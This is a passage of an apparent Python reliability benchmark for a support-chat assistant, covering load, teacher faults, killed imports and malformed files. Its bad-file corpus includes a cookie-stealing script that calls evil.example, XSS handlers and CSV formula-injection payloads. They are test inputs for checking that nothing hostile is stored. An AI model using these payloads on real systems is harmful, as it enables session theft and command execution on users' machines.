"""Reliability benchmark: the probes of issue #11 (safe in front of customers) as one repeatable run.

    python -m eval.bench_reliability                 # every probe with the issue's sizes (a few minutes)
    python -m eval.bench_reliability --quick         # small sizes, about a minute
    python -m eval.bench_reliability --only load,kill

Probes (each a function below; everything runs in temporary state directories, never in an existing one):

- load: N chat clients (gradio_client, `/send`) x T seconds against a served app (`assistant.web.serve`,
  fake student and teacher: the point is the store), while a separate process imports M generated
  conversations into the same store. Requests, customer-visible errors (a reply saying "went wrong", a
  rate-limit refusal, a reply that is not the answer to the message sent), lost exchanges (replies
  received minus rows in `exchanges`), the longest wait, and the import's `lock_held_s`. The load keeps
  going until the import has finished, so its swap always happens under load. The chat's per-session rate
  limit is switched off (ASSISTANT_CHAT_RATE_LIMIT=0): every client comes from one address.
- teacher: the chat served with a real HTTP teacher (OpenAITeacher, from settings.teacher_base_url) that
  hangs (eval.fake_teacher with a long delay), answers 429 (eval.fake_teacher), or, from a small server
  here, 500, a garbage body, a broken event stream, an empty `{}` answer, a stream that stalls after its
  first piece, or nothing at all (connection refused); and a healthy stream as control. Time until the
  reply, the notice the customer sees, and the exchange logged with the failure. A teacher that drips a
  piece every few seconds is measured too, for information (the deadline bounds the wait for each piece).
- kill: `assistant import` in a subprocess, killed with SIGKILL at each stage (interpreter starting,
  staging file created, staging half done, staging nearly done, during the swap's write transaction, after
  the commit). Afterwards the store holds exactly what it held before (or, after the commit, all of the
  import), `PRAGMA integrity_check` is ok, and the next import still runs and clears the scratch files.
- badfiles: every file of a corpus (the repo's bad-file fixtures and files generated here: legacy
  encodings, UTF-16/32 with and without BOM, truncated JSON, binary, empty, HTML, formulas ...) through
  `assistant import` (the CLI, in process): a file that cannot be imported exits non-zero with one line
  naming the file and the reason, and changes nothing; a file that is importable after decoding and
  cleaning is imported, and nothing hostile (U+FFFD, NUL, markup, a live formula) is stored.
- injection: tests/test_injection.py's injection set through each of its prompt builders (the live
  teacher's system prompt, the labeller's prompt, the judge's prompts, the student's grounding): inert or not.
- console: every console function called anonymously over HTTP (named calls, queue joins by index, config,
  API info, upload, file route) against a served app with a console user: all refused (401/403); the
  public chat's API lists no console function and refuses calls to one.

Columns: requests (calls, files, kills or prompts made), errors (target misses), lost rows (exchanges or
rows missing or changed against what should be there), max wait (the longest a caller waited), leaks
(what should not have got out: internals shown to a customer, hostile text stored, scratch files left,
console data served anonymously). A pass/fail line per target follows the table.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field, replace
from pathlib import Path

from eval.fake_teacher import LoopbackServer
from tests.conftest import FakeEmbedder  # the bag-of-words hashing embedder: retrieval without a model load


REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "tests" / "fixtures"
TEACHER_VARS = ("ASSISTANT_TEACHER_BASE_URL", "OPENAI_BASE_URL", "ASSISTANT_TEACHER_API_KEY", "OPENAI_API_KEY",
                "ASSISTANT_TEACHER_MODEL", "OPENAI_MODEL", "ASSISTANT_CONFIG", "ASSISTANT_USERS_FILE",
                "ASSISTANT_CONSOLE_USERS", "GRADIO_SERVER_NAME", "GRADIO_SERVER_PORT", "ASSISTANT_PORT", "ASSISTANT_HOST")
DEFAULTS = {"clients": 16, "seconds": 120.0, "conversations": 60_000, "kill_conversations": 20_000}
QUICK = {"clients": 4, "seconds": 10.0, "conversations": 5_000, "kill_conversations": 3_000}
REPLY_TARGET_S = 10.0


@dataclass
class Row:
    probe: str
    requests: int = 0
    errors: int = 0
    lost: int | None = 0
    max_wait: float | None = None
    leaks: int | None = 0
    notes: str = ""
    targets: list[tuple[bool, str]] = field(default_factory=list)  # (met, what)


def say(*parts) -> None:
    print(*parts, flush=True)


# ---- shared pieces -----------------------------------------------------------------------------

class TeacherRouter:
    """Sends every message to the teacher, so each fault probe reaches it (the public chat has no switch)."""

    name = "always-teacher"

    def score(self, messages, draft=None):
        from assistant.router import RouteDecision

        return RouteDecision(1.0, "benchmark: every message goes to the teacher")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def temp_settings(home: Path, **env):
    """Settings for a state directory of our own; nothing read from this process's environment."""
    from assistant.settings import Settings

    values = {"ASSISTANT_HOME": str(home), "ASSISTANT_SEED_SAMPLE": "false", "ASSISTANT_PORT": str(free_port())}
    values.update({k: str(v) for k, v in env.items()})
    return Settings.from_env(values)


def fake_services(settings, *, teacher=None, router=None, student=None):
    from assistant.models import FakeModel
    from assistant.retrieval import CaseBase, KnowledgeBase, Retriever
    from assistant.router import RuleRouter
    from assistant.services import Services
    from assistant.store import open_store

    embedder = FakeEmbedder()
    retriever = Retriever(KnowledgeBase([], embedder), CaseBase([], embedder))
    return Services(settings=settings, store=open_store(settings), retriever=retriever,
                    student=student or FakeModel("student-fake", "student"),
                    teacher=teacher or FakeModel("teacher-fake", "teacher"), router=router or RuleRouter())


def child_env(home: Path) -> dict:
    env = {k: v for k, v in os.environ.items() if k not in TEACHER_VARS}
    env["ASSISTANT_HOME"] = str(home)
    env["PYTHONPATH"] = str(REPO) + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    return env


def assistant_cmd() -> list[str]:
    """The `assistant` console script of this interpreter's environment."""
    script = Path(sys.executable).parent / "assistant"
    if script.exists():
        return [str(script)]
    return [sys.executable, "-c", "from assistant.cli import app; app()"]


def table_counts(db_path: Path) -> dict[str, int]:
    conn = sqlite3.connect(db_path)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                             "AND name NOT LIKE 'sqlite_%' ORDER BY name")]
        return {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
    finally:
        conn.close()


def snapshot(db_path: Path) -> tuple:
    """What an import may write, read through a fresh connection: equal snapshots, untouched store."""
    conn = sqlite3.connect(db_path)
    try:
        return tuple(conn.execute(f"SELECT * FROM {t} ORDER BY id").fetchall() for t in ("conversations", "imports"))
    finally:
        conn.close()


def integrity(db_path: Path) -> str:
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


def generate(path: Path, n: int, offset: int = 0) -> Path:
    from eval.bench_import import generate as gen

    if offset == 0:
        gen(path, n)
        return path
    gen(path.with_suffix(".tmp"), n + offset)  # the generator is seeded: skip a prefix to get other conversations
    with open(path.with_suffix(".tmp"), encoding="utf-8") as src, open(path, "w", encoding="utf-8") as dst:
        for i, line in enumerate(src):
            if i >= offset:
                dst.write(line)
    path.with_suffix(".tmp").unlink()
    return path


def close_quietly(running) -> None:
    """Stop the servers; an event stream a client left open is cut after the grace period, which uvicorn
    reports with a traceback that says nothing about the probe."""
    import logging

    log = logging.getLogger("uvicorn.error")
    level = log.level
    log.setLevel(logging.CRITICAL)
    try:
        running.close()
    finally:
        log.setLevel(level)


def reply_text(history) -> str:
    from assistant.ui import content_text

    if not history:
        return ""
    last = history[-1]
    return content_text(last.get("content")) if isinstance(last, dict) else str(last)


# ---- 1. load: chat clients with an import alongside ----------------------------------------------------

def _client_worker(url: str, index: int, end: float, hard_end: float, stop: Path, think: float, per_session: int,
                   results: list) -> None:
    from gradio_client import Client

    client = Client(url, verbose=False)
    n = 0
    while True:
        now = time.time()
        if (now >= end and stop.exists()) or now >= hard_end:
            break
        # every third message is a refund question: the router sends it to the (fake) teacher
        topic = "I want a refund for order" if n % 3 == 2 else "where is my order"
        message = f"client {index} message {n}: {topic} NH-{index:02d}{n:05d}?"
        t0 = time.time()
        outcome, detail = "ok", ""
        try:
            history = client.predict(message, [], api_name="/send")[0]
            text = reply_text(history)
            if "went wrong" in text:
                outcome, detail = "error", text[:200]
            elif "faster than we can answer" in text:
                outcome, detail = "refused", text[:200]
            elif message not in text:  # the fake models answer "echo: <message>": anything else is someone else's reply
                outcome, detail = "wrong", text[:200]
        except Exception as exc:  # the client saw no reply at all
            outcome, detail = "exception", f"{type(exc).__name__}: {exc}"[:200]
        results.append({"t": t0, "wait": time.time() - t0, "outcome": outcome, "detail": detail, "client": index})
        n += 1
        if n % per_session == 0:
            try:
                client.predict(api_name="/new_conversation")
            except Exception as exc:
                results.append({"t": time.time(), "wait": 0.0, "outcome": "exception", "client": index,
                                "detail": f"new_conversation: {type(exc).__name__}: {exc}"[:200], "not_a_send": True})
        if think:
            time.sleep(think)


def _child_clients(args: dict) -> None:
    """Runs in its own process, so the clients' work does not share the served app's interpreter."""
    results: list = []
    stop = Path(args["stop"])
    threads = [threading.Thread(target=_client_worker, daemon=True,
                                args=(args["url"], i, args["end"], args["hard_end"], stop, args["think"],
                                      args["per_session"], results))
               for i in range(args["clients"])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(1.0, args["hard_end"] - time.time() + 120))
    print(json.dumps(results))


def _child_import(path: str, db: str) -> None:
    from assistant.store import Store
    from distill.importer import import_file

    t0 = time.time()
    s = import_file(Store(db), path)
    print(json.dumps({"start": t0, "end": time.time(), "imported": s.imported, "rejected": len(s.rejected),
                      "duplicates": s.duplicates, "lock_held_s": s.lock_held_s, "seconds": s.seconds}))


def probe_load(clients: int = 16, seconds: float = 120.0, conversations: int = 60_000, think: float = 0.05,
               per_session: int = 8, import_after: float = 3.0) -> Row:
    from assistant.web import serve

    row = Row(f"load {clients}x{seconds:g}s + import {conversations:,}")
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        t0 = time.perf_counter()
        source = generate(tmp / "conversations.jsonl", conversations)
        say(f"[load] generated {conversations:,} conversations ({source.stat().st_size / 1e6:.0f} MB) "
            f"in {time.perf_counter() - t0:.1f} s")
        settings = temp_settings(tmp / "state", ASSISTANT_CHAT_RATE_LIMIT=0)
        services = fake_services(settings)
        running = serve(services, block=False)
        stop = tmp / "import-finished"
        start = time.time()
        spec = {"url": running.chat_url, "clients": clients, "end": start + seconds, "think": think,
                "hard_end": start + max(3 * seconds, seconds + 900), "stop": str(stop), "per_session": per_session}
        client_proc = subprocess.Popen([sys.executable, "-m", "eval.bench_reliability", "--child", "clients",
                                        json.dumps(spec)], cwd=REPO, env=child_env(tmp / "state"),
                                       stdout=subprocess.PIPE, text=True)
        imp = {}
        try:
            time.sleep(import_after)  # the clients are connected and chatting before the import starts
            out = subprocess.run([sys.executable, "-m", "eval.bench_reliability", "--child", "import", str(source),
                                  str(settings.db_path)], cwd=REPO, env=child_env(tmp / "state"),
                                 capture_output=True, text=True)
            if out.returncode == 0:
                imp = json.loads(out.stdout.strip().splitlines()[-1])
            else:
                imp = {"error": (out.stderr.strip().splitlines() or ["?"])[-1]}
            stop.touch()
            stdout, _ = client_proc.communicate()
        finally:
            if client_proc.poll() is None:
                client_proc.kill()
            close_quietly(running)
        results = json.loads(stdout.strip().splitlines()[-1]) if stdout.strip() else []
        end = max([r["t"] + r["wait"] for r in results], default=time.time())
        exchanges = table_counts(settings.db_path)["exchanges"]
        stored_conversations = table_counts(settings.db_path)["conversations"]
        leftovers = list((settings.db_path.parent / (settings.db_path.name + ".import-staging")).glob("*"))
    sends = [r for r in results if not r.get("not_a_send")]
    answered = [r for r in sends if r["outcome"] in ("ok", "wrong")]  # an exchange was logged for these
    errors = [r for r in results if r["outcome"] != "ok"]
    row.requests = len(sends)
    row.errors = len(errors)
    row.lost = len(answered) - exchanges
    row.max_wait = max((r["wait"] for r in sends), default=None)
    row.leaks = len(leftovers) + max(0, -row.lost)  # scratch files left; exchanges logged twice
    def in_flight(a: float, b: float) -> list[float]:
        return [r["wait"] for r in sends if r["t"] <= b and r["t"] + r["wait"] >= a]

    during = in_flight(imp.get("start", 0), imp.get("end", 0))
    swap = in_flight(imp.get("end", 0) - imp.get("lock_held_s", 0) - 1.0, imp.get("end", 0))
    if "error" in imp:
        row.notes = f"import FAILED: {imp['error']}"
    else:
        row.notes = (f"import {imp['imported']:,} in {imp['end'] - imp['start']:.0f} s, lock held "
                     f"{imp['lock_held_s']:.2f} s, at {imp['end'] - start:.0f} s of {end - start:.0f} s; "
                     f"max wait while importing {max(during, default=0):.2f} s, around the swap {max(swap, default=0):.2f} s "
                     f"({len(swap)} requests); {len(sends) / (end - start):.1f} req/s")
    say(f"[load] {len(sends)} messages from {clients} clients in {end - start:.0f} s; exchanges stored {exchanges}; "
        f"conversations stored {stored_conversations:,}")
    if sends:
        waits = sorted(r["wait"] for r in sends)
        worst = max(sends, key=lambda r: r["wait"])
        say(f"[load] wait p50 {waits[len(waits) // 2]:.2f} s, p95 {waits[int(len(waits) * 0.95)]:.2f} s, max "
            f"{worst['wait']:.2f} s (sent at {worst['t'] - start:.0f} s; the import ran "
            f"{imp.get('start', start) - start:.0f}-{imp.get('end', start) - start:.0f} s)")
    for r in errors[:5]:
        say(f"[load]   {r['outcome']}: {r['detail']}")
    imported_ok = "error" not in imp and stored_conversations == imp.get("imported")
    row.targets.append((row.lost == 0 and not errors and imported_ok,
                        f"load: 0 lost exchanges, 0 customer-visible errors (lost {row.lost}, errors {row.errors}"
                        f"{'' if imported_ok else ', the import did not complete'})"))
    return row


# ---- 2. teacher faults -------------------------------------------------------------------------------

TEACHER_TEXT = "Thanks for your patience. Orders ship within 1 business day."


class FaultyTeacher(LoopbackServer):
    """An OpenAI-compatible chat-completions server (loopback) with the faults eval.fake_teacher lacks:
    500, garbage bodies, a broken event stream, an empty answer, a stream that stalls or drips; "ok" streams
    a proper reply."""

    def __init__(self, mode: str = "ok", drip_every_s: float = 3.0, drip_pieces: int = 5):
        import http.server

        self.mode, self.drip_every_s, self.drip_pieces = mode, drip_every_s, drip_pieces
        self.calls = 0
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _plain(self, code: int, body: bytes, ctype: str = "application/json") -> None:
                self.send_response(code)
                self.send_header("content-type", ctype)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def _chunk(self, text: str | None, finish: str | None = None, usage: dict | None = None) -> None:
                choices = [] if usage else [{"index": 0, "delta": {"content": text} if text else {},
                                             "finish_reason": finish}]
                event = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake", "choices": choices}
                if usage:
                    event["usage"] = usage
                self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
                self.wfile.flush()

            def _stream_head(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/event-stream")
                self.send_header("connection", "close")
                self.end_headers()
                self.close_connection = True

            def do_POST(self):
                self.rfile.read(int(self.headers.get("content-length", 0)))
                fake.calls += 1
                mode = fake.mode
                try:
                    if mode == "500":
                        self._plain(500, b'{"error": {"message": "internal error", "type": "server_error"}}')
                    elif mode == "garbage":
                        self._plain(200, b"<html><body>502 Bad Gateway</body></html> \x00\xff garbage", "application/json")
                    elif mode == "empty":
                        self._plain(200, b"{}")
                    elif mode == "garbage-sse":
                        self._stream_head()
                        self.wfile.write(b'data: {"id": "x", "choices": [{"delta": {"content": "Hel\n\ndata: ]]]\n\n')
                    elif mode in ("ok", "stall", "drip"):
                        self._stream_head()
                        words = TEACHER_TEXT.split(" ")
                        if mode == "drip":
                            words = words[:fake.drip_pieces]
                        for i, word in enumerate(words):
                            self._chunk(word if i == 0 else " " + word)
                            if mode == "stall":
                                time.sleep(600)  # one piece, then nothing
                            if mode == "drip":
                                time.sleep(fake.drip_every_s)
                        self._chunk(None, finish="stop")
                        self._chunk(None, usage={"prompt_tokens": 50, "completion_tokens": len(words), "total_tokens": 0})
                        self.wfile.write(b"data: [DONE]\n\n")
                    self.wfile.flush()
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up: what the chat is supposed to do

        self._serve(Handler)


class Refusing:
    """A teacher address where nothing listens (connection refused)."""

    def __init__(self):
        self.url = f"http://127.0.0.1:{free_port()}/v1"

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        pass


def teacher_faults():
    """(name, server factory, expected notice kind): kind "none" for the healthy control, "info" for a probe
    reported but not held to the target."""
    from eval.fake_teacher import FakeTeacher

    return [
        ("healthy stream", lambda: FaultyTeacher("ok"), "none"),
        ("hangs (no answer)", lambda: FakeTeacher(delay_s=600), "notice"),
        ("HTTP 500", lambda: FaultyTeacher("500"), "notice"),
        ("HTTP 429, Retry-After 2", lambda: FakeTeacher(fail_first=10**9, retry_after=2), "notice"),
        ("garbage body", lambda: FaultyTeacher("garbage"), "notice"),
        ("broken event stream", lambda: FaultyTeacher("garbage-sse"), "notice"),
        ("empty {} answer", lambda: FaultyTeacher("empty"), "notice"),
        ("stalls after 1st piece", lambda: FaultyTeacher("stall"), "notice"),
        ("connection refused", Refusing, "notice"),
        ("drips a piece every 3 s", lambda: FaultyTeacher("drip", 3.0, 5), "info"),
    ]


def probe_teacher(repeats: int = 1, target_s: float = REPLY_TARGET_S) -> Row:
    from gradio_client import Client

    from assistant.chat import SLOW_NOTICE, UNAVAILABLE_NOTICE
    from assistant.services import make_teacher
    from assistant.web import serve

    row = Row("teacher faults")
    hang_waits, failures, informational = [], [], []
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        # a real HTTP teacher, configured the way a user would; the deadline is the default one
        settings = temp_settings(Path(tmp) / "state", ASSISTANT_TEACHER_BASE_URL="http://127.0.0.1:9/v1",
                                 ASSISTANT_TEACHER_API_KEY="sk-bench-secret-key")
        services = fake_services(settings, router=TeacherRouter())
        running = serve(services, block=False)
        try:
            say(f"[teacher] chat teacher deadline {settings.chat_teacher_deadline:g} s, client timeout "
                f"min({settings.teacher_timeout:g}, deadline) x {settings.teacher_max_retries} retries")
            for name, factory, kind in teacher_faults():
                with factory() as server:
                    services.teacher = make_teacher(replace(settings, teacher_base_url=server.url), services.retriever,
                                                    for_chat=True)
                    port = server.url.split(":")[2].split("/")[0]
                    for _ in range(repeats):
                        before = table_counts(settings.db_path)["exchanges"]
                        client = Client(running.chat_url, verbose=False)
                        t0 = time.perf_counter()
                        try:
                            out = client.predict("Where is my order NH-20417?", [], api_name="/send")
                        except Exception as exc:
                            out = ([{"role": "assistant", "content": f"(no reply: {type(exc).__name__}: {exc})"}], "")
                        wait = time.perf_counter() - t0
                        client.close()
                        text, notice = reply_text(out[0]), str(out[1] or "")
                        conn = sqlite3.connect(settings.db_path)
                        logged = conn.execute("SELECT routed_to, error, notice, ttft_ms, latency_ms FROM exchanges "
                                              "ORDER BY id DESC LIMIT 1").fetchall()
                        conn.close()
                        stored = table_counts(settings.db_path)["exchanges"] - before
                        logged = logged if stored else []
                        shown = json.dumps(out, ensure_ascii=False)
                        leak = [w for w in (f":{port}", "127.0.0.1", "sk-bench", "Traceback", "gpt-4o-mini", "HTTP 500",
                                            "Error:", "teacher-fake") if w in shown]
                        has_notice = SLOW_NOTICE in notice or UNAVAILABLE_NOTICE in notice
                        ok = bool(text) and "went wrong" not in text and "(no reply" not in text and stored == 1
                        if kind == "none":
                            ok = ok and text == TEACHER_TEXT and not notice
                        elif kind == "notice":
                            ok = ok and has_notice and bool(logged and logged[0][1])
                        if kind != "info":
                            ok = ok and wait <= target_s
                            row.requests += 1
                            row.max_wait = max(row.max_wait or 0.0, wait)
                            row.leaks += bool(leak)
                            row.lost += stored != 1
                            if not ok:
                                row.errors += 1
                                failures.append(name)
                        else:
                            informational.append(f"{name}: {wait:.1f} s")
                        if name.startswith("hangs"):
                            hang_waits.append(wait)
                        route, error, _, ttft, _ = logged[0] if logged else (None, None, None, None, None)
                        ttft_s = f"{ttft / 1000:.1f} s" if ttft is not None else "-"
                        say(f"[teacher] {name:<26} reply in {wait:5.1f} s (first text {ttft_s}) "
                            f"{'OK ' if ok else 'FAIL' if kind != 'info' else 'info'} answered by {route}; "
                            f"notice: {notice.strip('⚠️ ') or '-'}; logged error: {error or '-'}"
                            + (f"; LEAKED {leak}" if leak else ""))
        finally:
            close_quietly(running)
    row.notes = (f"hang answered in {max(hang_waits, default=float('nan')):.1f} s; "
                 + "; ".join(informational) + " (information, not a target)")
    row.targets.append((bool(hang_waits) and max(hang_waits) <= target_s,
                        f"hanging teacher: a reply within {target_s:g} s (took {max(hang_waits, default=float('nan')):.1f} s)"))
    row.targets.append((not failures and not row.leaks,
                        "teacher 500 / 429 / garbage / empty / stalled / down: the reply arrives with a notice, the "
                        f"failure is logged, no internals shown" + (f" (failed: {', '.join(failures)})" if failures else "")))
    return row


# ---- 3. kill -9 at each stage of an import -------------------------------------------------------------

KILL_STAGES = ("starting", "staging created", "staging 50%", "staging 90%", "swap (write lock held)", "after commit")


def _staged_rows(folder: Path) -> int:
    best = 0
    for f in folder.glob("*.db"):
        try:
            conn = sqlite3.connect(f"file:{f}?mode=ro", uri=True, timeout=0.05)
            try:
                best = max(best, conn.execute("SELECT count(*) FROM staged").fetchone()[0])
            finally:
                conn.close()
        except sqlite3.Error:
            pass
    return best


def _kill_at(stage: str, home: Path, source: Path, n: int, log: Path) -> tuple[str, float]:
    """Start `assistant import`, SIGKILL it when `stage` is seen; returns (what was seen, seconds run)."""
    db = home / "assistant.db"
    wal = Path(str(db) + "-wal")
    staging = home / "assistant.db.import-staging"
    wal0 = wal.stat().st_size if wal.exists() else 0
    with open(log, "w") as out:
        proc = subprocess.Popen(assistant_cmd() + ["import", str(source)], cwd=REPO, env=child_env(home),
                                stdout=out, stderr=subprocess.STDOUT)
    t0 = time.monotonic()
    seen = "finished before the stage"
    last_count = 0.0
    try:
        while proc.poll() is None and time.monotonic() - t0 < 900:
            files = list(staging.glob("*.db")) if staging.exists() else []
            if stage == "starting" and time.monotonic() - t0 >= 0.3:
                seen = "starting" if not files else "staging already created"
                break
            if stage == "staging created" and files:
                seen = stage
                break
            if stage.startswith("staging ") and files and time.monotonic() - last_count > 0.05:
                last_count = time.monotonic()
                share = int(stage.split()[1].rstrip("%")) / 100
                if _staged_rows(staging) >= share * n:
                    seen = stage
                    break
            if stage.startswith("swap") and wal.exists() and wal.stat().st_size > wal0:
                time.sleep(0.002)
                seen = (f"swap: the WAL being written, {wal.stat().st_size:,} bytes" if files
                        else "WAL written with no staging file")
                break
            if stage == "after commit" and files:
                seen = "staging"
                while proc.poll() is None and any(f.exists() for f in files):
                    time.sleep(0.001)
                seen = stage if proc.poll() is None else "finished before the stage"
                break
            time.sleep(0.002 if stage.startswith("swap") else 0.01)
    finally:
        if proc.poll() is None:
            os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
    return seen, time.monotonic() - t0


def probe_kill(conversations: int = 20_000) -> Row:
    from assistant.store import Store

    row = Row(f"kill -9 import {conversations:,} ({len(KILL_STAGES)} stages)")
    bad, missed, leftovers = [], [], 0
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        source = generate(tmp / "kill.jsonl", conversations, offset=0)
        # the store before: the sample company's conversations and a few logged chats
        pristine = tmp / "pristine"
        settings = temp_settings(pristine)
        store = Store(settings.db_path)
        from distill.importer import import_file

        import_file(store, REPO / "data" / "sample" / "conversations.jsonl")
        for i in range(5):
            store.log_exchange({"session_id": "s", "turn_index": i, "route": "Auto", "routed_to": "student",
                                "request_messages": [{"role": "user", "content": f"q{i}"}], "reply": f"a{i}"})
        store.db.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        store.close()
        before = table_counts(settings.db_path)
        say(f"[kill] store before: {before['conversations']} conversations, {before['imports']} imports, "
            f"{before['exchanges']} exchanges; importing {conversations:,} generated conversations")
        for i, stage in enumerate(KILL_STAGES):
            home = tmp / f"kill-{i}"
            shutil.copytree(pristine, home)
            seen, ran = _kill_at(stage, home, source, conversations, tmp / f"kill-{i}.log")
            row.requests += 1
            db = home / "assistant.db"
            wal = Path(str(db) + "-wal")
            if stage.startswith("swap") and wal.exists():
                seen += f"; {wal.stat().st_size:,} bytes at the kill"
            check = integrity(db)  # opening the store rolls back what the killed process left in the WAL
            after = table_counts(db)
            delta = {t: after.get(t, 0) - before.get(t, 0) for t in set(after) | set(before)}
            conn = sqlite3.connect(db)
            last_import = conn.execute("SELECT status, imported FROM imports ORDER BY id DESC LIMIT 1").fetchone()
            conn.close()
            changed = {t: d for t, d in delta.items() if d}
            if not changed:
                outcome = "nothing stored"
            elif (set(changed) <= {"conversations", "imports"} and changed.get("imports") == 1
                  and last_import == ("done", changed.get("conversations", 0))):
                outcome = f"whole import stored (+{changed.get('conversations', 0):,})"
            else:
                outcome = f"PARTIAL {changed}"
            expected_all = stage == "after commit"
            ok = check == "ok" and not outcome.startswith("PARTIAL") and (
                outcome.startswith("whole") if expected_all and caught else True)
            caught = seen == stage or (stage.startswith("swap") and seen.startswith("swap"))
            if not caught:
                missed.append(stage)
            if not ok:
                row.errors += 1
                bad.append(stage)
            row.lost += sum(abs(d) for d in changed.values()) if outcome.startswith("PARTIAL") else 0
            say(f"[kill] {stage:<24} killed after {ran:5.1f} s (seen: {seen}): integrity {check}, {outcome}"
                f" {'OK' if ok else 'FAIL'}")
        # the next import after a kill: runs (the lock was released), clears the scratch file, stores all
        home = tmp / f"kill-{KILL_STAGES.index('swap (write lock held)')}"
        t0 = time.perf_counter()
        out = subprocess.run(assistant_cmd() + ["import", str(source)], cwd=REPO, env=child_env(home),
                             capture_output=True, text=True)
        wait = time.perf_counter() - t0
        leftovers = len(list((home / "assistant.db.import-staging").glob("*")))
        after = table_counts(home / "assistant.db")
        imported = re.search(r"imported (\d+)", out.stdout)
        next_ok = (out.returncode == 0 and imported is not None and integrity(home / "assistant.db") == "ok"
                   and after["conversations"] - before["conversations"] == int(imported.group(1)) and not leftovers)
        say(f"[kill] the next import after the kill in the swap: exit {out.returncode} in {wait:.0f} s, "
            f"{imported.group(0) if imported else out.stderr.strip()[-200:]}, scratch files left {leftovers}"
            f" {'OK' if next_ok else 'FAIL'}")
        row.requests += 1
        row.errors += not next_ok
        row.max_wait = None
    row.leaks = leftovers
    row.notes = ("every kill left the store whole" if not bad else f"FAILED at {', '.join(bad)}") + (
        f"; stage not caught (process finished first): {', '.join(missed)}" if missed else "")
    row.targets.append((not bad and next_ok,
                        "kill -9 at each import stage: row counts as before (or the whole import after the commit), "
                        "integrity ok, the next import runs" + (f" (failed: {', '.join(bad)})" if bad else "")))
    return row


# ---- 4. bad files ------------------------------------------------------------------------------------

@dataclass
class BadFile:
    name: str
    data: bytes | None  # None: the repo's fixture of that name; b"" an empty file
    importable: bool  # legitimately importable after decoding / cleaning
    why: str  # what the file is
    reason: str = ""  # a regex the error message must match besides the file name (error files)
    text: str = ""  # text that must be stored, decoded right (importable files)
    absent: tuple = ()  # words that must not be stored (the content of removed markup)


def _csv(rows: list[list[str]]) -> str:
    import csv
    import io

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def bad_file_corpus() -> list[BadFile]:
    conv = lambda *turns: {"messages": [{"role": "user" if i % 2 == 0 else "assistant", "content": t}  # noqa: E731
                                        for i, t in enumerate(turns)]}
    jsonl = lambda *records: "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)  # noqa: E731
    french = _csv([["conversation_id", "role", "text"], ["f1", "customer", "Mon reçu indique 12,50 € : déjà payé ?"],
                   ["f1", "agent", "Désolé, le remboursement part aujourd'hui."]])
    german = _csv([["conversation_id", "role", "text"], ["g1", "customer", "Grüße, wo bleibt mein Paket?"],
                   ["g1", "agent", "Es kommt morgen, schöne Grüße."]])
    russian = jsonl(conv("Кабель не работает 😊", "Отправим новый кабель завтра."))
    hostile_html = ('<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
                    '<svg onload=alert(1)><circle r=1 /></svg><iframe src="https://evil.example">frame</iframe>')
    html_csv = _csv([["conversation_id", "role", "text", "subject"],
                     ["h1", "customer", f"My camera is offline {hostile_html}", '<img src=x onerror=alert(1)>Camera'],
                     ["h1", "agent", '<div>Restart it.<a href="javascript:alert(1)">here</a></div>', ""]])
    formulas = _csv([["conversation_id", "role", "text", "=cmd|' /C calc'!A0", "note"],
                     ["q1", "customer", '=HYPERLINK("https://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|x", "-2+3+cmd|x!A0"],
                     ["q1", "agent", "+cmd|' /C notepad'!A0 Your order ships today.", "x", "\t=1+1"]])
    page = (f"<!doctype html><html><head><title>Ticket 1</title></head><body>{hostile_html}"
            "<p>Customer: where is my order?</p><p>Agent: it ships today.</p></body></html>")
    good = jsonl(*[conv(f"Question {i}: my hub is offline after update {i}", f"Answer {i}: restart the hub")
                   for i in range(3)])
    return [
        # the repo's bad-file fixtures
        BadFile("broken.jsonl", None, False, "JSONL, every line broken", r"line 1: invalid JSON at column \d+"),
        BadFile("html_injection.jsonl", None, True, "script / svg / iframe / javascript: links in messages",
                absent=HOSTILE_WORDS),
        BadFile("latin1_messages.csv", None, True, "CSV in Latin-1", text="Mon café est arrivé cassé"),
        BadFile("messages_utf16be_nobom.csv", None, True, "CSV in UTF-16 BE, no BOM", text="25 °C"),
        BadFile("openai_utf16le_bom.jsonl", None, True, "JSONL in UTF-16 LE with BOM", text="Кабель не работает"),
        BadFile("openai_utf16le_nobom.jsonl", None, True, "JSONL in UTF-16 LE, no BOM", text="Кабель не работает"),
        BadFile("formulas_metadata.csv", None, True, "CSV with formulas in metadata columns and a column name"),
        # generated here
        BadFile("gen_latin1.csv", french.replace("€", "francs").encode("latin-1"), True, "CSV in Latin-1",
                text="Mon reçu indique 12,50 francs : déjà payé"),
        BadFile("gen_cp1252.csv", french.encode("cp1252"), True, "CSV in Windows-1252 (euro sign)", text="12,50 €"),
        BadFile("gen_utf16le_bom.csv", b"\xff\xfe" + german.encode("utf-16-le"), True, "CSV in UTF-16 LE with BOM",
                text="Grüße, wo bleibt"),
